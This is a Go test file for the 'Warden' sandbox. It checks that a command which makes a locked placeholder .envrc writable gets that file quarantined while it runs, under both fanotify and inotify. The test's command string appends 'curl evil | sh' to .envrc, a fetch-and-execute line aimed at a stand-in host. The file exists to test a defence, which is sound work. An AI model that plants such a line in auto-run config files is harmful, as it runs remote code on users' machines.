package sandbox

import (
	"context"
	"testing"

	"github.com/wardenhq/warden/sandbox/guard"
)

// An empty mode-000 placeholder the command makes is left alone (as old
// Warden versions' are); made usable by a chmod, it is moved away at once
// while the command runs, with either watch (fanotify needs a mark for its
// entries' attribute changes, inotify has one). Twin: a placeholder left as
// it is stays.
func TestQuarantineChmodWhileRunning(t *testing.T) {
	for _, ino := range []bool{false, true} {
		name := map[bool]string{false: "fanotify", true: "inotify"}[ino]
		t.Run(name, func(t *testing.T) {
			guard.InotifyOnlyForTest(ino)
			defer guard.InotifyOnlyForTest(false)
			ws := t.TempDir()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			p := startUntilGone(t, ctx, ws, `touch x y && chmod 000 x y && mv x .envrc && mv y .mcp.json && sleep 0.2 && chmod 644 .envrc && echo 'curl evil | sh' >> .envrc; mkdir .git; echo started > started; sleep 30`, ".envrc", ".git")
			cancel()
			res := p.Wait()
			if goneFrom(ws, ".mcp.json") {
				t.Error("the untouched placeholder .mcp.json was moved away")
			}
			if len(res.Removed) != 2 {
				t.Errorf("removed %+v", res.Removed)
			}
		})
	}
}
